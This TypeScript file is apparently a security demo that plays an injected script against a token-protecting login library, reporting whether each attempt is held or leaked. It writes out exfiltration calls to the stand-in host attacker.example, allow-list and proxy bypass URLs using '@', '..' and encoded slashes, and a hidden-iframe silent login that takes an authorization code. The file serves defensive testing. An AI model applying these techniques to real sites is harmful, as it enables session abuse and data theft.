/**
 * An injected script, played honestly: each thing that it would try, tried for real in this page, and what came of it. Also what it can do: a login that no script
 * can steal is not a page that a script cannot use.
 */
import { createSession } from "grantkit/session/slim";

import { isGrantError } from "./errors.js";
import type { House } from "./house.js";
import type { Text } from "./language.js";
import { listenedIn } from "./listen.js";
import { Search, stored, tokensIn, type Find } from "./search.js";
import { meta, own } from "./ui.js";
import { mask } from "./wire.js";

/** `held`: it came to nothing. `open`: it works, and is said to. `leaked`: it works, and must not. `untried`: it proves nothing here. */
export type Verdict = "held" | "open" | "leaked" | "untried";

export interface Outcome {
  readonly verdict: Verdict;
  readonly said: Text;
  /** What is seen of it, by name. */
  readonly evidence?: readonly (readonly [name: string, value: string])[];
}

export interface Attempt {
  readonly id: string;
  readonly aim: Aim;
  readonly title: Text;
  readonly how: Text;
  readonly run: () => Promise<Outcome>;
}

export type Aim = "take" | "send" | "use";

/** What an attempt is for. */
export const AIMS: Record<Aim, Text> = {
  take: ["Take a token", "トークンを奪う"],
  send: ["Have a token sent elsewhere", "トークンをよそへ送らせる"],
  use: ["What it can do all the same", "それでもできること"],
};

/** Where an attacker would like tokens to go. Nobody has this name: RFC 2606. */
const ATTACKER = "https://attacker.example";

/** Every attempt that makes sense where the tokens are. */
export function attempts(house: House): readonly Attempt[] {
  const common = [look(house), storage(house), listen(house)];
  const use = [readClaims(house), callApi(house)];
  if (house.where === "edge") return [...common, cookie(), askHandler(house), carry(house), proxyTricks(), ownEdgeLogin(), forged(house), ...use];
  return [...common, errors(house), foreign(house), tricks(house), ...(meta("nobody") ? [redirect(house)] : []), otherOptions(house), ...use, ownLogin()];
}

// ── Take a token ──

function look(house: House): Attempt {
  return {
    id: "look", aim: "take",
    title: ["Look at every object that a script can reach", "スクリプトが届くすべてのオブジェクトを調べる"],
    how: ["From `window` on: every property, getter, prototype and collection, the session in every form. A decoy is planted, to see that the search is a good one.", "`window` から始めて、すべてのプロパティ、getter、プロトタイプ、コレクション、あらゆる形のセッションを調べます。探し方が確かなことを示すため、おとりも仕掛けます。"],
    async run() {
      const decoy = `Decoy0-${random()}`;
      const place = Symbol("decoy");
      Object.defineProperty(globalThis, place, { configurable: true, value: { deep: new Map([["in", [{ get a() { return { getter: decoy }; } }]]]) } });
      const search = new Search(known(house));
      search.add("window", globalThis);
      for (const [name, form] of forms(house)) search.add(name, form);
      const loot = await search.run();
      delete (globalThis as Record<symbol, unknown>)[place];
      const finds = loot.finds.filter(({ value }) => !decoy.includes(value));
      const seen = loot.finds.length > finds.length;
      if (!seen) return { verdict: "leaked", said: ["The search did not even find its own decoy: it proves nothing.", "おとりさえ見つからなかったので、この探索は何も証明しません。"] };
      return judged(finds, [
        `${count(loot.objects)} objects, ${count(loot.characters)} characters: the decoy was found, and no token.`,
        `オブジェクト ${count(loot.objects)} 個、${count(loot.characters)} 文字。おとりは見つかりましたが、トークンはありませんでした。`,
      ]);
    },
  };
}

function storage(house: House): Attempt {
  return {
    id: "storage", aim: "take",
    title: ["Read everything that is stored", "保存されているものをすべて読む"],
    how: ["Cookies, localStorage, sessionStorage, IndexedDB, caches, history, the address, the document. Keys are asked to give themselves away.", "Cookie、localStorage、sessionStorage、IndexedDB、キャッシュ、履歴、アドレス、文書。鍵には、自らを差し出すよう求めます。"],
    async run() {
      const { places, sealedKeys, exported } = await stored();
      const search = new Search(known(house));
      for (const [where, value] of places) search.add(where, value);
      const { finds } = await search.run();
      if (exported > 0) return { verdict: "leaked", said: ["A key could be exported.", "鍵を取り出せました。"] };
      return judged(finds, [
        `${places.length} places, no token.${spentCode() ? " The browser remembers the address of the callback: its code is spent, and was worth nothing without the verifier." : ""}${sealedKeys ? ` ${sealedKeys} key: it seals a login that is under way, and cannot be exported.` : ""}`,
        `${places.length} か所に、トークンはありませんでした。${spentCode() ? "ブラウザーはコールバックのアドレスを覚えていますが、その認可コードは使用済みで、verifier がなければ元々価値がありません。" : ""}${sealedKeys ? `鍵が ${sealedKeys} 本あります。進行中のログインを封じるもので、取り出せません。` : ""}`,
      ]);
    },
  };
}

function listen(house: House): Attempt {
  return {
    id: "listen", aim: "take",
    title: ["Listen in while tokens are on their way", "トークンが行き交うところを盗み聞きする"],
    how: ["`fetch`, `XMLHttpRequest`, `JSON.parse`, messages and streams are replaced by ones that listen; then the session is refreshed, and the API is asked.", "`fetch`、`XMLHttpRequest`、`JSON.parse`、メッセージ、ストリームを、盗み聞きするものに置き換えます。それからセッションを更新し、API に問い合わせます。"],
    async run() {
      let renewed = true;
      const heard = await listenedIn(async () => {
        await house.refresh().catch(() => { renewed = false; });
        await house.ask().then((reply) => reply.text(), () => {});
      });
      const secrets = known(house);
      const finds = heard.flatMap(tokensIn).filter((it) => !secrets.has(it)).map((value) => ({ where: "heard", value }));
      if (!renewed && finds.length === 0) return { verdict: "untried", said: ["No token was on its way: the session could not be refreshed just now.", "トークンは行き交いませんでした。今はセッションを更新できません。"] };
      return judged(finds, [
        `${count(heard.length)} things were heard: the answers, and no token. They were renewed where this page has no ears.`,
        `${count(heard.length)} 件を聞き取りました。応答は聞こえましたが、トークンは聞こえません。更新は、このページの耳が届かない所で行われたからです。`,
      ]);
    },
  };
}

function errors(house: House): Attempt {
  const { session } = house;
  return {
    id: "errors", aim: "take",
    title: ["Provoke errors, and read them", "エラーを起こして、読む"],
    how: ["Errors are talkative: message, stack, cause, `toJSON()`, a structured clone.", "エラーはおしゃべりです。メッセージ、スタック、原因、`toJSON()`、構造化複製を調べます。"],
    async run() {
      const search = new Search(known(house));
      const refused = await Promise.all([`${ATTACKER}/`, "nonsense:", house.api].map((url, at) => session!.fetch(url, at === 2 ? { headers: { authorization: "Bearer mine" } } : {}).catch((error: unknown) => error)));
      for (const error of [...refused, session!.error].filter(isGrantError)) {
        search.add("error", error);
        search.add("error.toJSON()", error.toJSON());
        search.add("clone", cloned(error));
        search.add("stack", error.stack);
      }
      const { finds } = await search.run(5_000);
      return judged(finds, ["They say what happened and whose fault it is. No token.", "何が起き、誰のせいかを述べるだけで、トークンは含まれません。"]);
    },
  };
}

function cookie(): Attempt {
  return {
    id: "cookie", aim: "take",
    title: ["Read the cookie", "Cookie を読む"],
    how: ["The session is a cookie, so: `document.cookie`, `cookieStore`.", "セッションは Cookie です。そこで `document.cookie` と `cookieStore` を読みます。"],
    async run() {
      const store = (globalThis as { cookieStore?: { getAll(): Promise<unknown[]> } }).cookieStore;
      const all = [document.cookie, ...(await store?.getAll().catch(() => []) ?? []).map((it) => JSON.stringify(it))].join("");
      return all === ""
        ? { verdict: "held", said: ["Empty: the cookie is HttpOnly. And what is in it is sealed, with a key that the edge has.", "空です。Cookie は HttpOnly です。しかも中身は、エッジだけが持つ鍵で封じられています。"] }
        : { verdict: "leaked", said: ["A cookie can be read.", "Cookie を読めました。"] };
    },
  };
}

function askHandler(house: House): Attempt {
  const asks: readonly (readonly [path: string, init?: RequestInit])[] = [
    ["/auth/session"], ["/auth/refresh", { method: "POST" }], ["/auth/session?access_token=1"], ["/auth/token"], ["/auth/callback"], ["/api/me"],
  ];
  return {
    id: "handler", aim: "take",
    title: ["Ask the edge for the tokens", "エッジにトークンを求める"],
    how: ["Every endpoint is asked, as this page may; headers and bodies of the answers are searched.", "ページに許されたとおりにすべてのエンドポイントへ問い合わせ、応答のヘッダーと本文を調べます。"],
    async run() {
      const secrets = known(house);
      const evidence: [string, string][] = [];
      const finds: Find[] = [];
      for (const [path, init] of asks) {
        const reply = await fetch(path, { ...init, headers: { "x-csrf": "1" }, redirect: "manual" });
        const text = `${JSON.stringify([...reply.headers])} ${await reply.text()}`;
        evidence.push([`${init?.method ?? "GET"} ${path}`, reply.type === "opaqueredirect" ? "redirect" : String(reply.status)]);
        finds.push(...tokensIn(text).filter((it) => !secrets.has(it)).map((value) => ({ where: path, value })));
      }
      return judged(finds, ["It answers with claims, never with tokens.", "答えるのはクレームだけで、トークンは決して返しません。"], evidence);
    },
  };
}

// ── Have one sent elsewhere ──

function foreign(house: House): Attempt {
  return {
    id: "foreign", aim: "send",
    title: ["Let the session fetch from the attacker's server", "攻撃者のサーバーへ session.fetch を向ける"],
    how: [`\`session.fetch("${ATTACKER}/collect")\``, `\`session.fetch("${ATTACKER}/collect")\``],
    run: () => refusals(house, [`${ATTACKER}/collect`], ["Refused in the Worker, before anything was sent.", "何も送信しないうちに、Worker の中で拒否されました。"]),
  };
}

function tricks(house: House): Attempt {
  const { protocol, host, hostname, port, origin } = new URL(house.api);
  const urls = [
    `//attacker.example/me`, `${protocol}//${host}@attacker.example/me`, `${protocol}//${hostname}.attacker.example:${port}/me`, `${protocol}\\\\attacker.example\\me`,
    `${house.api}/../token`, `${house.api}/%2e%2e/token`, `${house.api}-too`, `${house.api}/..%2ftoken`, `${house.api}//attacker.example`,
    `${protocol}//${hostname}:${(Number(port) || 443) + 1}/me`, `${origin}/ME`, `blob:${origin}/me`,
  ];
  return {
    id: "tricks", aim: "send",
    title: ["Trick the allow-list", "許可リストをだます"],
    how: [
      `${urls.length} addresses that look as if they were allowed: \`//\`, \`@\`, \`..\`, encoded dots and slashes, a similar name, another port, another case.`,
      `許可されていそうに見える ${urls.length} 個のアドレス：\`//\`、\`@\`、\`..\`、符号化した点とスラッシュ、よく似た名前、別のポート、大文字と小文字。`,
    ],
    run: () => refusals(house, urls, [`All ${urls.length} were refused: the Worker compares what a URL is, not what it looks like.`, `${urls.length} 個すべてが拒否されました。Worker は URL の見た目ではなく、それが何であるかを比べます。`]),
  };
}

function redirect(house: House): Attempt {
  return {
    id: "redirect-away", aim: "send",
    title: ["Find an open redirect at an allowed API", "許可された API のオープンリダイレクトを使う"],
    how: [`\`/api/moved\` of this server may get the token, and answers with a redirect to ${ATTACKER}.`, `このサーバーの \`/api/moved\` にはトークンを送れますが、${ATTACKER} へリダイレクトします。`],
    run: () => refusals(house, [own("api/moved")], ["Not followed: a redirect ends in an error.", "従いません。リダイレクトはエラーで終わります。"], "redirect_refused"),
  };
}

function otherOptions(house: House): Attempt {
  return {
    id: "options", aim: "send",
    title: ["Open the same session with other options", "同じセッションを別の設定で開く"],
    how: [`\`createSession({ …, api: ["${ATTACKER}/"] })\``, `\`createSession({ …, api: ["${ATTACKER}/"] })\``],
    async run() {
      const other = await createSession({ ...house.options!, api: [`${ATTACKER}/`] }).catch((error: unknown) => error);
      if (isGrantError(other)) return { verdict: "held", said: ["Refused: the Worker of this session was made with other options.", "拒否されました。このセッションの Worker は、別の設定で作られています。"], evidence: [["code", other.code]] };
      const result = await (other as typeof house.session)!.fetch(`${ATTACKER}/`).then((reply) => `status ${reply.status}`, code);
      return {
        verdict: result === "origin_not_allowed" ? "held" : "leaked", evidence: [[`${ATTACKER}/`, result]],
        said: ["It gets the session that is there, with the list that it was made with.", "得られるのは既にあるセッションで、許可リストは作られた時のままです。"],
      };
    },
  };
}

function carry(house: House): Attempt {
  return {
    id: "carry", aim: "send",
    title: ["Carry data out to the attacker's server", "データを攻撃者のサーバーへ持ち出す"],
    how: [`\`fetch("${ATTACKER}/", { credentials: "include" })\``, `\`fetch("${ATTACKER}/", { credentials: "include" })\``],
    async run() {
      const [violated] = await violations(() => fetch(`${ATTACKER}/?${String(house.known().user?.["sub"] ?? "")}`, { credentials: "include", mode: "no-cors" }));
      return violated
        ? { verdict: "held", said: ["The content security policy of this page lets it speak with its own origin alone. And the cookie would not have gone along: it is this origin's.", "このページのコンテンツセキュリティポリシーは、自分のオリジンとの通信しか許しません。Cookie もこのオリジンのものなので、付いて行きません。"], evidence: [["connect-src", violated]] }
        : { verdict: "open", said: ["The request was sent, without the cookie, which is this origin's alone.", "リクエストは送信されましたが、Cookie はこのオリジン専用なので付いていません。"] };
    },
  };
}

function proxyTricks(): Attempt {
  const paths = ["/api/me/../../token", "/api/%2e%2e/token", "/api/me%2f..%2ftoken", "/api/me//attacker.example", "/api/mercury", "//attacker.example/me", "/api/me@attacker.example", "/API/me"];
  return {
    id: "proxy", aim: "send",
    title: ["Trick the proxy into another address", "プロキシをだまして別の宛先へ"],
    how: [`${paths.length} paths that might lead out of the one route, \`/api/me\`.`, `唯一の経路 \`/api/me\` から抜け出そうとする ${paths.length} 個のパス。`],
    async run() {
      const evidence: [string, string][] = [];
      let through = false;
      for (const path of paths) {
        const answer = await fetch(path, { headers: { "x-csrf": "1" } }).then(async (reply) => {
          const text = await reply.text();
          if (/"sub"/.test(text) && !/\/api\/me$/.test(path)) through = true;
          return reply.headers.get("content-type")?.includes("html") ? "this page, no API" : String(reply.status);
        }, () => "blocked");
        evidence.push([path, answer]);
      }
      return { verdict: through ? "leaked" : "held", evidence, said: ["A path leads to the one address that its route names, or nowhere.", "パスは、経路に書かれた唯一の宛先に至るか、どこにも至りません。"] };
    },
  };
}

function ownEdgeLogin(): Attempt {
  return {
    id: "own-login", aim: "send",
    title: ["Begin a login of its own, for tokens of its own", "自分用のログインを始めて、自分用のトークンを得る"],
    how: ["A hidden frame asks the authorization server by `prompt=none`, with a verifier of the attacker's.", "隠したフレームから、攻撃者の verifier を使い `prompt=none` で認可サーバーに尋ねます。"],
    async run() {
      const { frame } = hidden();
      const [violated] = await violations(async () => { frame.src = `${meta("authorization")}?prompt=none`; });
      frame.remove();
      return {
        verdict: violated ? "held" : "leaked", evidence: violated ? [["frame-src", violated]] : [],
        said: ["This page may frame nobody. And a code would be of no use: this client has a secret, and the edge has it.", "このページは何もフレームに入れられません。認可コードがあっても役に立ちません。このクライアントには秘密があり、それはエッジが持っています。"],
      };
    },
  };
}

function forged(house: House): Attempt {
  return {
    id: "forged", aim: "send",
    title: ["Call the API as another site could", "別のサイトから呼ぶように API を呼ぶ"],
    how: ["A form or an image of another site can send the cookie, but not a header of its own choice: the same call without `X-CSRF`.", "別のサイトのフォームや画像は Cookie を送れても、独自のヘッダーは付けられません。同じ呼び出しを `X-CSRF` なしで行います。"],
    async run() {
      const reply = await fetch(house.api);
      const { code: why } = await reply.json().catch(() => ({})) as { code?: string };
      return { verdict: reply.ok ? "leaked" : "held", said: ["Refused: without the header, the request may be anybody's.", "拒否されました。ヘッダーがなければ、誰のリクエストか分からないからです。"], evidence: [[`${reply.status}`, why ?? ""]] };
    },
  };
}

// ── What it can do ──

function readClaims(house: House): Attempt {
  return {
    id: "claims", aim: "use",
    title: ["Read who you are", "あなたが誰かを読む"],
    how: ["The page is told, so the script is.", "ページに知らされることは、スクリプトにも知られます。"],
    async run() {
      const { user } = house.known();
      return { verdict: "open", said: ["It can: whatever a page shows, a script in it can read.", "できます。ページに表示できるものは、その中のスクリプトにも読めます。"], evidence: ["name", "email"].filter((it) => user?.[it]).map((it) => [it, String(user![it])]) };
    },
  };
}

function callApi(house: House): Attempt {
  return {
    id: "call", aim: "use",
    title: ["Call the API as you, while this page is open", "このページが開いている間、あなたとして API を呼ぶ"],
    how: [`\`${house.call}\``, `\`${house.call}\``],
    async run() {
      const reply = await house.ask();
      await reply.body?.cancel();
      return {
        verdict: reply.ok ? "open" : "held", evidence: [["status", String(reply.status)]],
        said: [
          "It can: it runs where you are logged in. It ends when the page is closed; what it took with it is data, not a token. Keep scripts out: a strict content security policy, no foreign code.",
          "できます。あなたがログインしている場所で動いているからです。ページを閉じれば終わり、持ち出せるのはデータであってトークンではありません。スクリプトを入れないことが肝心です：厳格なコンテンツセキュリティポリシー、外部コードの排除。",
        ],
      };
    },
  };
}

function ownLogin(): Attempt {
  return {
    id: "own-login", aim: "use",
    title: ["Begin a login of its own, for tokens of its own", "自分用のログインを始めて、自分用のトークンを得る"],
    how: ["A hidden frame asks the authorization server by `prompt=none`, with a verifier of the attacker's: the server knows you, and answers.", "隠したフレームから、攻撃者の verifier を使い `prompt=none` で認可サーバーに尋ねます。サーバーはあなたを覚えているので、答えます。"],
    async run() {
      if (!globalThis.crypto?.subtle || !meta("authorization")) {
        return { verdict: "untried", said: ["Not tried on this page. Elsewhere it works: every client without a secret has this limit.", "このページでは試しません。ほかでは成功します。秘密を持たないクライアントすべての限界です。"] };
      }
      const verifier = random();
      const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(verifier));
      const query = new URLSearchParams({
        response_type: "code", client_id: meta("client"), redirect_uri: own("silent.html"), scope: "openid", prompt: "none", state: "attack",
        code_challenge_method: "S256", code_challenge: base64url(new Uint8Array(digest)),
      });
      const { frame, landed } = hidden();
      frame.src = `${meta("authorization")}?${query}`;
      const address = await landed;
      frame.remove();
      const stolen = address && new URL(address).searchParams.get("code");
      if (!stolen) {
        const why = address && new URL(address).searchParams.get("error");
        return { verdict: "held", said: ["The server gave no code without asking the user.", "サーバーは、ユーザーに尋ねずに認可コードを渡しませんでした。"], evidence: why ? [["error", why]] : [] };
      }
      const [violated] = await violations(() => fetch(`${meta("issuer")}/token`, { method: "POST", body: new URLSearchParams({ code: stolen }) }));
      return {
        verdict: "open",
        said: [
          "It gets a code, and so could get tokens of its own, elsewhere: no token of this session, but as good. Every client without a secret has this limit, in any library. Tokens at the edge do not: press the switch above, and run this again.",
          "認可コードを得られます。つまり、よそで自分用のトークンを得られます。このセッションのトークンではありませんが、同じ力を持ちます。これは、秘密を持たないクライアントすべての限界で、どのライブラリーでも同じです。エッジにはこの限界がありません。上のスイッチを押して、もう一度試してください。",
        ],
        evidence: [["code", mask(stolen)], ...(violated ? [["connect-src", violated] as const] : [])],
      };
    },
  };
}

// ── Tools of the trade ──

/**
 * What is no secret: the claims that a page is told, nonce and hashes among them, and what stood in the address that this page was opened with, which the browser
 * remembers. A code there is spent, and was worth nothing without the verifier, which the page never had.
 */
function known(house: House): ReadonlySet<string> {
  const opened = performance.getEntriesByType("navigation").map((it) => decodeURIComponent(it.name));
  return new Set([JSON.stringify(house.known().user ?? {}), ...opened].flatMap((text) => text.split(/[?&=#"]/).flatMap(tokensIn)));
}

/** Whether this page was opened by a callback. */
function spentCode(): boolean {
  return performance.getEntriesByType("navigation").some((it) => it.name.includes("code="));
}

/** The session in every form in which it can be had. */
function forms({ session }: House): [string, unknown][] {
  if (!session) return [];
  const makers: [string, () => unknown][] = [
    ["session", () => session], ["JSON.stringify(session)", () => JSON.stringify(session)], ["String(session)", () => String(session)],
    ["structuredClone(session)", () => structuredClone(session)], ["{ ...session }", () => ({ ...session })], ["session.toJSON()", () => session.toJSON()],
  ];
  return makers.map(([name, make]) => {
    try {
      return [name, make()];
    } catch (error) {
      return [name, error];
    }
  });
}

function judged(finds: readonly Find[], said: Text, evidence: readonly (readonly [string, string])[] = []): Outcome {
  if (finds.length === 0) return { verdict: "held", said, evidence };
  return {
    verdict: "leaked", evidence: finds.slice(0, 8).map(({ where, value }) => [where, mask(value)]),
    said: [`${finds.length} found that look like a token.`, `トークンらしきものが ${finds.length} 個見つかりました。`],
  };
}

/** All of these must be refused, by this code. */
async function refusals({ session }: House, urls: readonly string[], said: Text, expected = "origin_not_allowed"): Promise<Outcome> {
  const evidence = await Promise.all(urls.map(async (url): Promise<[string, string]> => [url, await session!.fetch(url).then((reply) => `status ${reply.status}`, code)]));
  const through = evidence.filter(([, answer]) => answer !== expected);
  if (through.length === 0) return { verdict: "held", said, evidence };
  return { verdict: "leaked", said: [`${through.length} went another way.`, `${through.length} 個が別の結果になりました。`], evidence: through };
}

const code = (error: unknown): string => isGrantError(error) ? error.code : error instanceof Error ? error.name : "failed";

/** What of `work` the content security policy refused. */
async function violations(work: () => Promise<unknown>): Promise<string[]> {
  const seen: string[] = [];
  const see = (event: SecurityPolicyViolationEvent): void => { seen.push(event.blockedURI); };
  document.addEventListener("securitypolicyviolation", see);
  await Promise.race([work().catch(() => {}), pause(2_000)]);
  await pause(100);
  document.removeEventListener("securitypolicyviolation", see);
  return seen;
}

/** A frame that nobody sees, and the address of ours that it comes back to. */
function hidden(): { frame: HTMLIFrameElement; landed: Promise<string | undefined> } {
  const frame = document.createElement("iframe");
  frame.hidden = true;
  frame.title = "";
  document.body.append(frame);
  const landed = new Promise<string | undefined>((resolve) => {
    setTimeout(() => resolve(undefined), 5_000);
    frame.addEventListener("load", () => {
      try {
        const address = frame.contentWindow?.location.href;
        if (address?.startsWith(own("silent.html"))) resolve(address);
      } catch { /* it shows another origin */ }
    });
  });
  return { frame, landed };
}

function cloned(value: unknown): unknown {
  try {
    return structuredClone(value);
  } catch (error) {
    return error;
  }
}

const pause = (milliseconds: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, milliseconds));

const random = (): string => base64url(crypto.getRandomValues(new Uint8Array(32)));

function base64url(bytes: Uint8Array): string {
  return btoa(String.fromCharCode(...bytes)).replace(/\+/g, "-").replace(/\//g, "_").replace(/=/g, "");
}

const count = (number: number): string => number.toLocaleString("en");
